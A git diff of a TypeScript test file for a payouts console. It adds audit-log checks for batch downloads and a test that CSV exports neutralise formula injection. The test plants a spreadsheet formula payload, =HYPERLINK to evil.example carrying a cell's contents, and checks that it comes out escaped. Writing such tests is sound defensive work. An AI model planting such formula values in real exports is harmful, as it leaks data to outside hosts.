@@ -1,3 +1,5 @@
+import { parse as parseCsv } from 'csv-parse/sync'
+import { eq } from 'drizzle-orm'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { consoleSession } from '../../../test/console.ts'
 import { testDatabases } from '../../../test/databases.ts'
@@ -175,23 +177,46 @@ describe.each(testDatabases)('the console’s payouts on $name', (kind) => {
     expect(paid.json().data).toMatchObject({ applied: true, paid: 1 })
 
     // Each change is in the audit log, by whom, with what it was before; the second upload is not a change.
+    // Each download of a batch's file is in it too: it hands out wallet numbers.
     const entries = await audit()
     expect(entries.map((entry) => [entry.action, entry.subject])).toEqual([
       ['payouts.reconcile', `batch:${second.batch}`],
+      ['payouts.download', `batch:${second.batch}`],
+      ['payouts.download', `batch:${file.batch}`],
       ['payouts.reexport', `batch:${second.batch}`],
       ['payouts.reconcile', `batch:${file.batch}`],
       ['payouts.export', `batch:${file.batch}`],
     ])
     for (const entry of entries) expect(entry.actor).toBe('finance@example.com')
-    expect(entries[3]).toMatchObject({
+    expect(entries[5]).toMatchObject({
       before: { status: 'pending', payoutIds: [a.id, b.id] },
       after: { status: 'exported', from: '2026-01-05', to: '2026-01-05', count: 2, cashTaka: 20 },
     })
-    expect(entries[2]).toMatchObject({ after: { paid: [a.id], failed: [b.id] } })
-    expect(entries[1]).toMatchObject({
+    expect(entries[4]).toMatchObject({ after: { paid: [a.id], failed: [b.id] } })
+    expect(entries[3]).toMatchObject({
       before: [{ payoutId: b.id, status: 'failed', batch: file.batch, providerRef: 'WALLET_CLOSED' }],
       after: { status: 'exported', count: 1, cashTaka: 10 },
     })
+    expect(entries[2]).toMatchObject({ before: null, after: { count: 0, cashTaka: 0, payoutIds: [] } })
+    expect(entries[1]).toMatchObject({ after: { count: 1, cashTaka: 10, payoutIds: [b.id] } })
+  })
+
+  it('writes a formula-looking cell as text in the export and in the batch file again', async () => {
+    // No route stores such a wallet; a row changed behind the product's back must still not run.
+    const planted = await award(t, { competition: 'daily_quiz', period: '2026-01-05', rank: 1 })
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"01712345678")'
+    await t.database.db.update(payouts).set({ msisdn: formula }).where(eq(payouts.id, planted.id))
+    const exported = (
+      await call('POST', '/api/console/payouts/export', { from: '2026-01-05', to: '2026-01-05' })
+    ).json().data
+    const again = await call('GET', `/api/console/payouts/batches/${exported.batch}/file`)
+    for (const csv of [exported.csv, again.body]) {
+      expect(csv).toBe(
+        `${exportHeader}\n${planted.id},"'=HYPERLINK(""http://evil.example/?""&A1,""01712345678"")",10,cash,daily_quiz,2026-01-05,1\n`,
+      )
+      const [, row] = parseCsv(csv) as string[][]
+      expect(row?.[1]).toBe(`'${formula}`)
+    }
   })
 
   it('sums each week’s prizes by status and by kind, a month in the week it ends', async () => {
